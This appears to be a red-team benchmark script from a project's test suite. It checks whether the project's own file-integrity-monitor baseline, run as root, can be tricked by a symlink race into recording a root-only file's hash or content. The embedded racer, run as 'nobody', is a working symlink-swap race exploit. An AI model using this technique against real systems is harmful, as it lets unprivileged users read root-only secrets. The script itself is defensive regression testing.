// S17F-1 with real processes: root runs `fim init` (in process, the CLI's initBaseline) on a
// web root that `nobody` owns, while nobody toggles www/d between its real directory and a
// symlink to a root-only directory holding a file of the same name. Counts the baselines that
// got that file's hash or (diff: true) its content under www/d/config.php.
//   node bench/redteam/s17/fim-race.mjs [REPO_ROOT] [ROUNDS] [THREADS]
// REPO_ROOT: whose packages/*/dist to run (default: this one); THREADS: 1 (inline) or 2.
import { spawn } from 'node:child_process';
import { createHash } from 'node:crypto';
import { chmodSync, chownSync, mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import { pathToFileURL } from 'node:url';

const root = resolve(process.argv[2] ?? '.');
const rounds = Number(process.argv[3] ?? 60);
const threads = Number(process.argv[4] ?? 1);
const m = (p) => import(pathToFileURL(join(root, 'packages/host/dist/fim', p)).href);
const { FimDb } = await m('baseline-db.js');
const { initBaseline } = await m('check.js');
const { ensureKey } = await m('key.js');
const { RuleSet } = await m('rules.js');

const base = mkdtempSync(join(tmpdir(), 's17-fim-race-'));
chmodSync(base, 0o755);
const www = join(base, 'www');
const d = join(www, 'd');
const secret = join(base, 'secret');
mkdirSync(d, { recursive: true });
mkdirSync(secret, { mode: 0o700 });
const SECRET = 'DB_PASSWORD=hunter2\n';
writeFileSync(join(secret, 'config.php'), SECRET, { mode: 0o600 });
for (let i = 0; i < 20; i++) writeFileSync(join(d, `f${i}.php`), `${i}`);
writeFileSync(join(d, 'config.php'), 'mine\n');
for (const p of [www, d]) chownSync(p, 65534, 65534);
for (let i = 0; i < 20; i++) chownSync(join(d, `f${i}.php`), 65534, 65534);
chownSync(join(d, 'config.php'), 65534, 65534);
const secretSha = createHash('sha256').update(SECRET).digest('hex');

// the attacker: bounded (30 s at most), killed at the end by its pid
const racer = `const f=require('fs');const d=${JSON.stringify(d)},s=${JSON.stringify(secret)};const end=Date.now()+30000;
const spin=()=>{const t=process.hrtime.bigint()+BigInt(Math.floor(Math.random()*100000));while(process.hrtime.bigint()<t);};
while(Date.now()<end){try{f.renameSync(d,d+'.real');f.symlinkSync(s,d);spin();f.unlinkSync(d);f.renameSync(d+'.real',d);spin();}catch{}}`;
const child = spawn('runuser', ['-u', 'nobody', '--', process.execPath, '-e', racer], { stdio: 'inherit' });
await new Promise((r) => setTimeout(r, 300));

const rules = new RuleSet({ paths: [{ path: www, diff: true }] });
let hashLeaks = 0;
let contentLeaks = 0;
let attrLeaks = 0;
const { key } = ensureKey(join(base, 'data', 'fim.key'));
for (let i = 0; i < rounds; i++) {
  const db = FimDb.open(join(base, 'data', `fim${i}.db`));
  await initBaseline(db, key, 'default', rules, { who: 'race', threads });
  const b = db.load('default', key);
  for (const [p, e] of b.entries) {
    if (!p.startsWith(d)) continue;
    if (e.sha256 === secretSha) hashLeaks++;
    if (e.uid === 0 && p !== d) attrLeaks++;
    const kept = db.content('default', p);
    if (kept && kept.toString().includes('hunter2')) contentLeaks++;
  }
  db.close?.();
}
try { process.kill(child.pid); } catch {}
await new Promise((r) => child.once('exit', r));
rmSync(base, { recursive: true, force: true });
console.log(`${root} threads=${threads}: ${rounds} inits, secret's hash recorded ${hashLeaks}x, its content kept ${contentLeaks}x, root-owned records under www/d ${attrLeaks}x`);
